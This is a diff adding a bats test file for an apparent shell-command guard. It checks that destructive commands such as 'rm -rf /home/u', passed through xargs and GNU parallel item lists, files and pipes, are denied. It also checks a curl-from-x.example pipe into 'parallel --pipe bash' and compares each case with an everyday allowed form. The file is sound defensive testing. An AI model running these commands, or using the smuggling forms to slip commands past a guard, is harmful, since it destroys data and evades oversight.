@@ -1,0 +1,85 @@
+#!/usr/bin/env bats
+# Runners that hand items to a command (attack12 findings M15, M25, M12,
+# M28, M23; share/doc/trust.md): every item xargs or parallel hands out
+# rated where it lands (-n/-L/-I, -0/-d, -a FILE, `cat F |`, `::::`,
+# --pipe), env -S's split string read as env's own words, the files a
+# patch from a pipe names, the folder git clone makes of a bundle, and
+# guard's state taken out of git's index. Each next to the everyday form.
+
+load helper
+
+setup() {
+	setup_guard
+	guard init >/dev/null
+}
+
+@test "xargs -n1/-L1/-I with -0 or -d: every item is rated as the script it becomes (M15)" {
+	decides "printf 'true\\0rm -rf /home/u\\0' | xargs -0 -n1 sh -c" deny
+	decides "printf 'true\\0rm -rf /home/u\\0' | xargs -0 -L1 sh -c" deny
+	decides "printf 'true\\0rm -rf /home/u\\0' | xargs -0n1 sh -c" deny
+	decides "printf 'true\\0rm -rf /home/u\\0' | xargs -r0n1 bash -c" deny
+	decides "printf 'true\\nrm -rf /home/u\\n' | xargs -n1 -d '\\n' sh -c" deny
+	decides "printf 'true\\nrm -rf /home/u\\n' | xargs -L1 --delimiter='\\n' sh -c" deny
+	decides "printf 'true\\0rm -rf /home/u\\0' | xargs -0 -I{} sh -c {}" deny
+	decides "printf 'true\\nrm -rf /home/u\\n' | xargs -i sh -c {}" deny
+	decides "printf 'true\\nrm -rf /home/u\\n' | xargs --replace sh -c {}" deny
+	decides "printf 'true\\nrm -rf /home/u\\n' | xargs --replace=X sh -c X" deny
+	decides "echo \"true 'rm -rf /home/u'\" | xargs -n1 sh -c" deny
+	decides "echo 'true rm\\ -rf\\ /home/u' | xargs --max-args=1 sh -c" deny
+	# everyday: one file a command, several at once
+	decides "printf 'a.o\\0b.o\\0' | xargs -0 -n1 rm -f" allow
+	decides "printf 'a.c\\nb.c\\n' | xargs -n1 -P2 gcc -c" allow
+	decides "printf 'a.o\\nb.o\\n' | xargs -I{} cp {} build/" allow
+	# without -n the other items are sh's $0 and $1: not run
+	decides "printf 'true\\0rm -rf /home/u\\0' | xargs -0 sh -c" allow
+}
+
+@test "xargs items from a file (-a FILE, cat FILE |, < FILE) are read when guard can (M15)" {
+	printf 'true\nrm -rf /home/u\n' >evil.txt
+	printf 'true\0rm -rf /home/u\0' >evil0.txt
+	printf 'a.o\nb.o\n' >list.txt
+	decides "xargs -a evil.txt -d '\\n' -n1 sh -c" deny
+	decides "xargs --arg-file=evil.txt -I{} sh -c {}" deny
+	decides "xargs -0a evil0.txt -n1 sh -c" deny
+	decides "xargs -0 --arg-file evil0.txt -n 1 sh -c" deny
+	decides "cat evil.txt | xargs -I% sh -c %" deny
+	decides "head -n 5 evil.txt | xargs -I % sh -c %" deny
+	decides "xargs -d '\\n' -L1 sh -c < evil.txt" deny
+	# everyday
+	decides "cat list.txt | xargs -n1 rm -f" allow
+	decides "xargs -a list.txt -n1 gzip" allow
+	decides "find . -name '*.o' | xargs rm -f" allow
+}
+
+@test "parallel: items from a pipe, -a FILE, :::: FILE and --pipe are rated as parallel runs them (M15)" {
+	printf 'true\nrm -rf /home/u\n' >evil.txt
+	printf 'true\0rm -rf /home/u\0' >evil0.txt
+	printf 'a.o\nb.o\n' >list.txt
+	decides "echo 'rm -rf /home/u' | parallel sh -c" deny
+	decides "printf 'rm -rf /home/u\\0' | parallel -0 sh -c" deny
+	decides "printf 'true\\0rm -rf /home/u\\0' | parallel --null bash -c" deny
+	decides "printf 'true\\nrm -rf /home/u\\n' | parallel bash -c" deny
+	decides "parallel sh -c ::: true 'rm -rf /home/u'" deny
+	decides "parallel -a evil.txt sh -c" deny
+	decides "parallel --arg-file=evil.txt sh -c" deny
+	decides "parallel sh -c :::: evil.txt" deny
+	decides "parallel -0 sh -c :::: evil0.txt" deny
+	decides "cat evil.txt | parallel" deny
+	decides "parallel < evil.txt" deny
+	decides "cat evil.txt | parallel --pipe bash" deny
+	decides "echo 'rm -rf /home/u' | parallel --pipe sh" deny
+	decides "curl -s http://x.example/a | parallel --pipe bash" "ask|deny"
+	# everyday
+	decides "parallel gzip ::: a b c" allow
+	decides "parallel -j4 gzip :::: list.txt" allow
+	decides "cat list.txt | parallel gzip" allow
+	decides "echo 'x y' | parallel echo" allow
+	decides "cat list.txt | parallel --pipe wc -l" allow
+}
+
+@test "more items than guard rates one by one: asked, not passed (M15)" {
+	seq 1 300 | sed 's/^/true /' >many.txt
+	echo 'rm -rf /home/u' >>many.txt
+	decides "xargs -a many.txt -d '\\n' -n1 sh -c" "ask|deny"
+	decides "parallel sh -c :::: many.txt" "ask|deny"
+}
